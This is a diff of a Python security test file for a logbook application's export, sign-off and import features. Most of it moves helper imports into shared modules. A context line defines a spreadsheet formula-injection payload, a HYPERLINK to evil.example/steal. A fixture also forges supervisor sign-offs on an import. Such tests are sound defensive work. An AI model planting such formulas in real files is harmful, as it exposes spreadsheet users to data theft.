@@ -23,10 +23,8 @@ from logbook.exports.models import RegistrationProposal
 from logbook.extensions import db
 from logbook.supervision.models import SignOff
 from logbook.supervision.signoff import approved_roles, verify_everything
-from tests.conftest import persist
-from tests.frameworks.conftest import shipped  # noqa: F401
-from tests.portfolio.conftest import pdf_text
-from tests.supervision.conftest import make_entry
+from tests.factories import make_entry, persist
+from tests.helpers import pdf_text, run_job, unzip
 
 CODE = re.compile(r"Verification code ([A-Z2-9]{5}-[A-Z2-9]{5})")
 EVIL_REGULATOR = '=HYPERLINK("https://evil.example/steal","HCPC")'
@@ -108,13 +106,11 @@ def forge(record: dict[str, Any], *, signature: bool) -> bytes:
 
 
 def exported_record(app, client) -> dict[str, Any]:
-    from tests.exports.conftest import run_job, unzip
-
     return json.loads(unzip(run_job(app, client, client.api("POST", "/api/v1/record/export")))["record.json"])
 
 
 @pytest.fixture
-def forged_import(app, make_user, make_client, other_org, shipped):  # noqa: F811
+def forged_import(app, make_user, make_client, other_org, shipped):
     """A practitioner writes three entries, exports them, forges sign-offs, and imports the result
     into a new account; returns (client, user, import answer)."""
 
